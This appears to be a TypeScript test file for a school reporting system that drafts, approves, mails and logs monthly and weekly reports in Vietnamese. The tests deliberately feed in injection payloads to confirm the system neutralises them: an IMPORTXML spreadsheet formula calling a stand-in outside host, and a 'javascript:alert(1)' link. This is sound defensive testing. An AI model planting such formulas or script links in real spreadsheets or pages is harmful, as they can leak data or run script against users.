/** Báo cáo: drafted from the registers, approved, sent by mail with its files, kept in the table of reports. */
import { samplePlans } from '../support/district-world';
import { DistrictWorld, rowsOf } from './support/district-world';
import { enterMonth, full, type School, schoolsOf, submit } from './support/schools';

const MONTH = '2026-09';
/** Thursday, the day before the deadline of the monthly and of the weekly report. */
const EVE = Date.parse('2026-09-24T16:00:00+07:00');
/** Base64 of "PK": the page makes the Word file, the server only carries it. */
const WORD = 'UEs=';

let provisioned: DistrictWorld;
let world: DistrictWorld;
let school: School;

beforeAll(() => {
  provisioned = DistrictWorld.withTemplate(samplePlans('TH'));
  provisioned.provision();
  provisioned.workspace.clock.set(EVE);
});
afterAll(() => provisioned.close());
beforeEach(() => {
  world = provisioned.fork();
  [school] = schoolsOf(world) as [School];
  school.hand.type('staff', [
    { name: 'Kiều Diệu Hiên', roles: 'Hiệu trưởng', email: 'hieutruong@truong.example' },
    { name: 'Mạc Khánh Sơn', roles: 'Phó hiệu trưởng' },
    { name: 'Tạ Quốc Lam', roles: 'Nhân viên CNTT' },
  ]);
});
afterEach(() => world.close());

interface Report {
  id: string;
  saved: string;
  kind: string;
  month: string;
  state: string;
  dueText?: string;
  approvedBy?: string;
  content: {
    subject: string;
    sections: { key: string; title: string; text: string; hint: string }[];
    figures: { title: string; columns: unknown[]; rows: string[][] }[];
  };
  answers: { asked: string; answer: string }[];
}

function ask(name: string, ...args: unknown[]): Report {
  const answer = school.person.call(name, ...args);
  if (answer.state !== 'page') throw new Error(JSON.stringify(answer));
  return answer.page as Report;
}

const load = (kind: string, month = MONTH) => ask('loadReport', kind, month);
const part = ({ content }: Report, key: string) =>
  (content.sections.find((section) => section.key === key)?.text ?? '')
    .split('\n')
    .filter((line) => line !== '');
const reports = () => rowsOf(world.workspace, school.book, 'reports');

function approve(report: Report, changes: object = {}): Report {
  return ask('saveReport', {
    ...report,
    ...changes,
    writer: 'Tạ Quốc Lam',
    approvedBy: 'Mạc Khánh Sơn',
  });
}

const send = ({ kind, month, id, saved }: Report) =>
  school.person.call('sendReport', { kind, month, id, saved, word: WORD });
const mailsTo = (address: string) =>
  world.workspace.mails.values().filter(({ to }) => to.some((each) => each.includes(address)));

test('the monthly report says what the scores say: by criterion, better and worse than last month, missing, to mend', () => {
  // the school year's second month, for the first one has none before it
  world.workspace.clock.set(EVE + 30 * 24 * 60 * 60 * 1000);
  enterMonth(school, MONTH, (each) =>
    each.code === '1.1.1' ? { notApplicable: false, self: 0 } : full(each),
  );
  enterMonth(school, '2026-10', (each) => {
    if (each.code === '1.1.2')
      return {
        notApplicable: false,
        self: 0,
        mendWhat: 'Bổ sung bảng phân công',
        mendWho: 'Mạc Khánh Sơn',
        mendUntil: '2026-11-10',
      };
    return full(each);
  });
  const report = load('model', '2026-10');
  expect(part(report, 'better')).toEqual([expect.stringMatching(/^1\.1\.1\. .+: từ 0 lên \d+ điểm$/)]);
  expect(part(report, 'worse')).toEqual([expect.stringMatching(/^1\.1\.2\. .+: từ \d+ xuống 0 điểm$/)]);
  expect(part(report, 'toMend')).toEqual([
    '1.1.2. Bổ sung bảng phân công (người làm: Mạc Khánh Sơn; hạn 10/11/2026)',
  ]);
  expect(part(report, 'overall')[0]).toMatch(
    /^Tự đánh giá tháng 10\/2026: \d.*điểm\. Tháng trước \(9\/2026\): /,
  );
  expect(report.content.figures[0]?.rows).toHaveLength(9);
});

test('sent to the principal with the Word file, it is in the table of reports as submitted; nothing is sent twice', () => {
  enterMonth(school, MONTH, full);
  submit(school, MONTH);
  const report = approve(load('model'));
  expect(report).toMatchObject({ state: 'draft', approvedBy: 'Mạc Khánh Sơn' });
  expect(mailsTo('hieutruong@truong.example')).toEqual([]);
  expect(send(report)).toMatchObject({
    state: 'page',
    message: expect.stringContaining('hieutruong@truong.example'),
  });
  const [mail] = mailsTo('hieutruong@truong.example');
  expect(mail?.subject).toContain('Báo cáo tháng 9/2026');
  expect(mail?.attachments[0]).toMatchObject({ name: 'Báo cáo tháng 2026-09.docx', base64: WORD });
  const row = reports().find(({ kind }) => kind === 'Báo cáo tháng thực hiện mô hình');
  expect(row).toMatchObject({
    period: '9/2026',
    state: 'Đã nộp',
    submittedBy: 'Tạ Quốc Lam',
    approvedBy: 'Mạc Khánh Sơn',
  });
  expect(send(report)).toMatchObject({ state: 'refused' });
  expect(mailsTo('hieutruong@truong.example')).toHaveLength(1);
  expect(load('model').state).toBe('sent');
});

test('edited after the approval, it must be approved again; a save on top of somebody else’s is refused', () => {
  const first = approve(load('model'));
  const edited = {
    ...first,
    content: { ...first.content, subject: 'Tên khác' },
    writer: 'Tạ Quốc Lam',
    approvedBy: '',
  };
  const saved = ask('saveReport', edited);
  expect(saved.approvedBy ?? '').toBe('');
  expect(send(saved)).toMatchObject({
    state: 'refused',
    message: expect.stringContaining('chưa được duyệt'),
  });
  expect(school.person.call('saveReport', edited)).toMatchObject({ state: 'refused' });
  expect(reports().filter(({ kind }) => kind === 'Báo cáo tháng thực hiện mô hình')).toHaveLength(1);
});

test('the weekly portal report takes up where the last one ended and is this Friday’s', () => {
  school.hand.type('portal-operations', [
    { date: '2/9/2026', kind: 'Vướng mắc', content: 'Trang chủ chậm', remedy: 'Báo nhà cung cấp' },
    { date: '3/9/2026', kind: 'Vướng mắc', content: 'Lỗi ảnh', remedy: 'Đã sửa', solvedOn: '4/9/2026' },
    {
      date: '22/9/2026',
      kind: 'Vướng mắc',
      content: 'Không đăng nhập được',
      remedy: 'Đặt lại mật khẩu',
      solvedOn: '23/9/2026',
    },
    { date: '23/9/2026', kind: 'Đề xuất tiện ích', content: 'Thêm mục lịch họp' },
  ]);
  const report = load('portal');
  expect(report.dueText).toContain('25/9/2026');
  expect(part(report, 'problems')).toEqual([
    '2/9: Trang chủ chậm (chưa xử lý xong)',
    '22/9: Không đăng nhập được (đã xử lý ngày 23/9)',
  ]);
  expect(part(report, 'solutions')).toEqual([
    'Trang chủ chậm: Báo nhà cung cấp',
    'Không đăng nhập được: Đặt lại mật khẩu',
    'Đề xuất: Thêm mục lịch họp',
  ]);
  expect(send(approve(report)).state).toBe('page');
  expect(reports().at(-1)).toMatchObject({ kind: 'Báo cáo vướng mắc Cổng', state: 'Đã nộp' });
  world.workspace.clock.set(EVE + 7 * 24 * 60 * 60 * 1000);
  const next = load('portal', '2026-10');
  expect(next.state).toBe('new');
  expect(part(next, 'problems')).toEqual(['2/9: Trang chủ chậm (chưa xử lý xong)']);
});

test('requests go up with the report: new lines enter their register, known ones are marked as sent; answers are shown', () => {
  school.hand.type('requests', [
    { date: '10/9/2026', kind: 'Kiến nghị', content: 'Cấp thêm máy chiếu', addressee: 'Đơn vị quản lý' },
  ]);
  const report = load('model');
  expect(part(report, 'requests')).toEqual(['Cấp thêm máy chiếu']);
  const sections = report.content.sections.map((section) =>
    section.key === 'requests'
      ? { ...section, text: 'Cấp thêm máy chiếu\n=IMPORTXML("https://tham.example","//a")' }
      : section,
  );
  expect(send(approve(report, { content: { ...report.content, sections } })).state).toBe('page');
  const rows = rowsOf(world.workspace, school.book, 'requests');
  expect(rows.map(({ content }) => content)).toEqual([
    'Cấp thêm máy chiếu',
    '=IMPORTXML("https://tham.example","//a")',
  ]);
  expect(rows.every(({ sentOn }) => sentOn !== '')).toBe(true);
  const sheets = world.workspace.spreadsheets.get(school.book)?.sheets ?? [];
  const cells = sheets.flatMap(({ rows: all }) => all.flatMap((row) => [...(row ?? [])]));
  expect(cells.filter((cell) => cell?.formula?.includes('IMPORTXML'))).toEqual([]);
});

test('the notice of results: posted on the portal, its link enters the portal register and ends the reminders', () => {
  enterMonth(school, MONTH, full);
  const notice = approve(load('notice'));
  expect(send(notice)).toMatchObject({ state: 'page' });
  expect(world.workspace.mails.values()).toHaveLength(provisioned.workspace.mails.values().length);
  const request = { id: notice.id, month: MONTH, who: 'Tạ Quốc Lam' };
  expect(school.person.call('noteResultsPosted', { ...request, link: 'javascript:alert(1)' })).toMatchObject({
    state: 'refused',
  });
  const link = 'https://cong.truong.example/ket-qua-thang-9';
  expect(school.person.call('noteResultsPosted', { ...request, link })).toMatchObject({ state: 'page' });
  school.person.call('noteResultsPosted', { ...request, link });
  expect(rowsOf(world.workspace, school.book, 'portal-news')).toMatchObject([
    { section: 'Kết quả đánh giá mô hình', link, approvedBy: 'Mạc Khánh Sơn' },
  ]);
});

test.each(['portalReview', 'data', 'week', 'quarter', 'term', 'topic', 'adHoc'])(
  '%s is drafted, approved and sent from the same parts',
  (kind) => {
    enterMonth(school, MONTH, full);
    const draft = load(kind);
    const content = { ...draft.content, subject: draft.content.subject || 'Sự cố đường truyền ngày 22/9' };
    expect(send(approve(draft, { content })).state).toBe('page');
    expect(reports().at(-1)).toMatchObject({ state: 'Đã nộp' });
  },
);

test('without a profile, settings or anybody to send to, it says what to do', () => {
  school.hand.change('profile', 'name', school.name, { name: '' });
  expect(school.person.call('loadReport', 'model', MONTH)).toMatchObject({
    state: 'refused',
    message: expect.stringContaining('Thông tin trường'),
  });
});
